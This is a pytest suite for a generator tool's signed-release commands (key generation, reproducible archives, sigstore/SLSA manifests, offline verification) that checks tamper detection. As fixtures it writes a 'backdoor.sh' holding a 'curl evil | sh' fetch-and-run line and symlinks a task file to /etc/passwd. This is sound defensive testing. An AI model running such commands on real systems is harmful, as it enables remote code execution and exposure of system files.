"""`gen keygen`, `gen release --sign key|none` and `gen verify-release` (offline).

Every tamper case expects exit 1 and a reason naming what failed.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from generator.release.manifest import build_statement, parse_manifest
from generator.release.sign import load_private_key, sign_with_key
from tests.release.release_support import edit_bundle, flip_b64, gen, make_project


@pytest.fixture(params=["ed25519", "p256"])
def keys(request: pytest.FixtureRequest, project: Path) -> tuple[Path, Path]:
    r = gen("keygen", "--project", str(project), "--type", request.param)
    assert r.code == 0, r.err
    d = project / ".gen" / "keys"
    assert (d / "release.key").stat().st_mode & 0o777 == 0o600
    return d / "release.key", d / "release.pub"


@pytest.fixture
def release(project: Path, keys: tuple[Path, Path]) -> Path:
    out = project / "release"
    r = gen("release", "--project", str(project), "--sign", "key", "--key", str(keys[0]),
            "--out", str(out))
    assert r.code == 0, r.err
    return out


def verify(release: Path, pub: Path, *extra: str) -> tuple[int, str]:
    r = gen("verify-release", str(release), "--key", str(pub), *extra)
    return r.code, (r.err + r.out)


def test_release_layout_and_manifest(release: Path, project: Path) -> None:
    names = sorted(p.name for p in release.iterdir())
    assert names == ["demo-1.0.0.tar", "manifest.json", "manifest.json.sigstore.json",
                     "validate-report.json"]
    m = parse_manifest((release / "manifest.json").read_bytes())
    assert sorted(m.files) == sorted(
        p.relative_to(project / "dataset").as_posix()
        for p in (project / "dataset").rglob("*") if p.is_file())
    assert m.files["hello/run-tests.sh"].mode == "0755"
    assert m.files["hello/task.yaml"].mode == "0644"
    assert m.images == {"127.0.0.1:5000/demo/hello": {"linux/amd64": "sha256:" + "a" * 64},
                        "127.0.0.1:5000/demo/swe-one": {"linux/amd64": "sha256:" + "b" * 64}}
    assert set(m.lockfiles) == {"lockfiles/images.lock", "lockfiles/tasks/hello/apt.lock"}
    assert set(m.reports) == {"validate"}
    assert m.source_date_epoch == 1700000000
    bundle = json.loads((release / "manifest.json.sigstore.json").read_text())
    assert bundle["mediaType"] == "application/vnd.dev.sigstore.bundle.v0.3+json"
    assert bundle["verificationMaterial"]["tlogEntries"] == []
    assert "hint" in bundle["verificationMaterial"]["publicKey"]
    st = json.loads(base64.b64decode(bundle["dsseEnvelope"]["payload"]))
    assert st["predicateType"] == "https://slsa.dev/provenance/v1"
    assert [s["name"] for s in st["subject"]] == [
        "manifest.json", "127.0.0.1:5000/demo/hello", "127.0.0.1:5000/demo/swe-one"]


def test_verify_ok(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 0, text
    assert "6 files and 2 image digests" in text
    r = gen("verify-release", str(release), "--key", str(keys[1]), "--json")
    data = r.json()
    assert data["verified"] is True and data["signer"]["mode"] == "key"
    assert data["checked"] == ["signature", "archive"]


def test_same_inputs_same_bytes(project: Path, tmp_path: Path) -> None:
    gen("keygen", "--project", str(project))
    key = str(project / ".gen/keys/release.key")
    for out in ("r1", "r2"):
        assert gen("release", "--project", str(project), "--sign", "key", "--key", key,
                   "--out", str(tmp_path / out)).code == 0
    for name in ("demo-1.0.0.tar", "manifest.json", "manifest.json.sigstore.json"):
        # Ed25519 signatures are deterministic too, so even the bundle repeats.
        assert (tmp_path / "r1" / name).read_bytes() == (tmp_path / "r2" / name).read_bytes()
    # A second project built the same way elsewhere gives the same archive and manifest.
    other = make_project(tmp_path / "elsewhere" / "proj")
    assert gen("release", "--project", str(other), "--sign", "none",
               "--out", str(tmp_path / "r3")).code == 0
    for name in ("demo-1.0.0.tar", "manifest.json"):
        assert (tmp_path / "r1" / name).read_bytes() == (tmp_path / "r3" / name).read_bytes()


def test_archive_members_are_normalized(release: Path) -> None:
    with tarfile.open(release / "demo-1.0.0.tar") as tar:
        members = tar.getmembers()
    assert members[0].name == "demo-1.0.0" and members[0].isdir()
    assert all(m.mtime == 1700000000 and m.uid == 0 and m.gid == 0 and m.uname == ""
               for m in members)
    modes = {m.name: m.mode for m in members}
    assert modes["demo-1.0.0/hello/run-tests.sh"] == 0o755
    assert modes["demo-1.0.0/hello/task.yaml"] == 0o644
    assert [m.name for m in members] == sorted(m.name for m in members)


def test_rerelease_replaces_previous(project: Path, keys: tuple[Path, Path], release: Path) -> None:
    (project / "dataset" / "hello" / "task.yaml").write_text("instruction: changed\n")
    r = gen("release", "--project", str(project), "--sign", "key", "--key", str(keys[0]),
            "--out", str(release))
    assert r.code == 0, r.err
    assert verify(release, keys[1], "--dataset", str(project / "dataset"))[0] == 0
    assert not [p for p in release.parent.iterdir() if ".gen-tmp-" in p.name or ".gen-old-" in
                p.name]


# --- tamper cases ---------------------------------------------------------------------------

def test_edited_dataset_file(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    (project / "dataset" / "hello" / "task.yaml").write_text("instruction: evil\n")
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1
    assert "hello/task.yaml: changed" in text


def test_added_dataset_file(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    (project / "dataset" / "hello" / "backdoor.sh").write_text("curl evil | sh\n")
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1
    assert "hello/backdoor.sh: extra file (not in the manifest)" in text


def test_removed_dataset_file(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    (project / "dataset" / "swe-one" / "eval.sh").unlink()
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1
    assert "swe-one/eval.sh: missing (listed in the manifest)" in text


def test_mode_change(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    (project / "dataset" / "swe-one" / "eval.sh").chmod(0o644)
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1 and "swe-one/eval.sh: mode 0644, manifest says 0755" in text


def test_symlink_in_checked_tree(release: Path, keys: tuple[Path, Path], project: Path) -> None:
    (project / "dataset" / "hello" / "task.yaml").unlink()
    os.symlink("/etc/passwd", project / "dataset" / "hello" / "task.yaml")
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1 and "symlinks are not allowed" in text


def test_tampered_archive(release: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    tar = release / "demo-1.0.0.tar"
    with tarfile.open(tar) as t:
        t.extractall(tmp_path / "x", filter="tar")
    (tmp_path / "x" / "demo-1.0.0" / "hello" / "task.yaml").write_text("instruction: evil\n")
    with tarfile.open(tar, "w") as t:
        t.add(tmp_path / "x" / "demo-1.0.0", arcname="demo-1.0.0")
    code, text = verify(release, keys[1])
    assert code == 1
    assert "demo-1.0.0.tar: changed" in text and "hello/task.yaml: changed" in text


def test_missing_archive(release: Path, keys: tuple[Path, Path]) -> None:
    (release / "demo-1.0.0.tar").unlink()
    code, text = verify(release, keys[1])
    assert code == 1 and "demo-1.0.0.tar: missing" in text


def test_swapped_manifest(release: Path, keys: tuple[Path, Path], project: Path,
                          tmp_path: Path) -> None:
    (project / "dataset" / "hello" / "task.yaml").write_text("instruction: evil\n")
    other = tmp_path / "other"
    assert gen("release", "--project", str(project), "--sign", "none",
               "--out", str(other)).code == 0
    shutil.copy(other / "manifest.json", release / "manifest.json")
    code, text = verify(release, keys[1], "--dataset", str(project / "dataset"))
    assert code == 1
    assert "manifest.json: sha256" in text and "is not the signed subject" in text


def test_edited_manifest(release: Path, keys: tuple[Path, Path]) -> None:
    m = release / "manifest.json"
    m.write_bytes(m.read_bytes().replace(b"1700000000", b"1700000001"))
    code, text = verify(release, keys[1])
    assert code == 1 and "is not the signed subject" in text


def test_missing_image_subject(project: Path, keys: tuple[Path, Path], release: Path) -> None:
    # A validly signed Statement that leaves one image out: the manifest lists it, so fail.
    mbytes = (release / "manifest.json").read_bytes()
    manifest = parse_manifest(mbytes)
    without = type(manifest)(**{**manifest.__dict__, "images": {
        k: v for k, v in manifest.images.items() if not k.endswith("swe-one")}})
    statement = build_statement(without, mbytes, env={})
    bundle, _ = sign_with_key(statement, load_private_key(keys[0]))
    (release / "manifest.json.sigstore.json").write_bytes(bundle)
    code, text = verify(release, keys[1])
    assert code == 1
    assert "image 127.0.0.1:5000/demo/swe-one@sha256:bbbbbbbbbbbb…: not a signed subject" in text


def test_wrong_key(release: Path, tmp_path: Path) -> None:
    assert gen("keygen", "--out", str(tmp_path / "other")).code == 0
    code, text = verify(release, tmp_path / "other" / "release.pub")
    assert code == 1 and "does not verify with the given key" in text


def test_any_of_several_keys(release: Path, keys: tuple[Path, Path], tmp_path: Path) -> None:
    assert gen("keygen", "--out", str(tmp_path / "other")).code == 0
    r = gen("verify-release", str(release), "--key", str(tmp_path / "other" / "release.pub"),
            "--key", str(keys[1]))
    assert r.code == 0, r.err


@pytest.mark.parametrize("field", ["sig", "payload"])
def test_flipped_bit_in_key_bundle(release: Path, keys: tuple[Path, Path], field: str) -> None:
    def flip(b: dict) -> None:  # type: ignore[type-arg]
        env = b["dsseEnvelope"]
        if field == "sig":
            env["signatures"][0]["sig"] = flip_b64(env["signatures"][0]["sig"], 5)
        else:
            env["payload"] = flip_b64(env["payload"], 40)

    edit_bundle(release, flip)
    code, text = verify(release, keys[1])
    assert code == 1 and "DSSE signature does not verify" in text


def test_key_bundle_without_key_option(release: Path) -> None:
    r = gen("verify-release", str(release), "--repository", "o/r", "--offline")
    assert r.code == 1 and "signed with a key, not keyless" in r.err


def test_missing_bundle(release: Path, keys: tuple[Path, Path]) -> None:
    (release / "manifest.json.sigstore.json").unlink()
    code, text = verify(release, keys[1])
    assert code == 1 and "the release is not signed" in text


def test_tampered_report(release: Path, keys: tuple[Path, Path]) -> None:
    (release / "validate-report.json").write_text('{"ok": false}\n')
    code, text = verify(release, keys[1])
    assert code == 1 and "validate-report.json: changed" in text


def test_unsigned_release(project: Path, tmp_path: Path) -> None:
    out = tmp_path / "rel"
    assert gen("release", "--project", str(project), "--sign", "none", "--out", str(out)).code == 0
    assert not (out / "manifest.json.sigstore.json").exists()
    assert gen("verify-release", str(out), "--allow-unsigned").code == 0
    r = gen("verify-release", str(out), "--key", str(tmp_path / "nope.pub"))
    assert r.code == 2  # unreadable key file: usage


def test_no_images_when_nothing_built(tmp_path: Path) -> None:
    proj = make_project(tmp_path / "p", images=False)
    out = tmp_path / "rel"
    r = gen("release", "--project", str(proj), "--sign", "none", "--out", str(out), "--json")
    assert r.code == 0 and r.json()["images"] == 0
    assert parse_manifest((out / "manifest.json").read_bytes()).images == {}


# --- usage errors (exit 2) ------------------------------------------------------------------

@pytest.mark.parametrize("argv", [
    ["--ref", "refs/tags/v1", "--key", "k.pub"],
    ["--cert-identity", "x"],
    ["--repository", "o/r", "--key", "k.pub"],
    [],
])
def test_verify_usage_errors(release: Path, argv: list[str]) -> None:
    assert gen("verify-release", str(release), *argv).code == 2


def test_verify_missing_dir(tmp_path: Path) -> None:
    r = gen("verify-release", str(tmp_path / "nope"), "--key", "x.pub")
    assert r.code == 2


def test_release_refuses_out_inside_dataset(project: Path) -> None:
    r = gen("release", "--project", str(project), "--sign", "none",
            "--out", str(project / "dataset" / "rel"))
    assert r.code == 2 and "overlaps the dataset folder" in r.err


def test_release_refuses_symlinks(project: Path, tmp_path: Path) -> None:
    os.symlink("task.yaml", project / "dataset" / "hello" / "link.yaml")
    r = gen("release", "--project", str(project), "--sign", "none", "--out", str(tmp_path / "r"))
    assert r.code == 2 and "symlinks are not allowed" in r.err
    assert not (tmp_path / "r").exists()


def test_release_refuses_non_release_out(project: Path, tmp_path: Path) -> None:
    (tmp_path / "r").mkdir()
    (tmp_path / "r" / "precious.txt").write_text("keep me")
    r = gen("release", "--project", str(project), "--sign", "none", "--out", str(tmp_path / "r"))
    assert r.code == 2 and (tmp_path / "r" / "precious.txt").exists()


def test_release_key_mode_needs_key(project: Path, tmp_path: Path) -> None:
    assert gen("release", "--project", str(project), "--sign", "key",
               "--out", str(tmp_path / "r")).code == 2


def test_keygen_refuses_overwrite(project: Path) -> None:
    assert gen("keygen", "--project", str(project)).code == 0
    assert gen("keygen", "--project", str(project)).code == 2
    assert gen("keygen", "--project", str(project), "--force").code == 0


def test_encrypted_key(project: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("GEN_KEY_PASSWORD", "s3cret")
    assert gen("keygen", "--out", str(tmp_path / "k")).code == 0
    assert b"ENCRYPTED" in (tmp_path / "k" / "release.key").read_bytes()
    assert gen("release", "--project", str(project), "--sign", "key", "--key",
               str(tmp_path / "k" / "release.key"), "--out", str(tmp_path / "r")).code == 0
    monkeypatch.setenv("GEN_KEY_PASSWORD", "wrong")
    assert gen("release", "--project", str(project), "--sign", "key", "--key",
               str(tmp_path / "k" / "release.key"), "--out", str(tmp_path / "r2")).code == 2
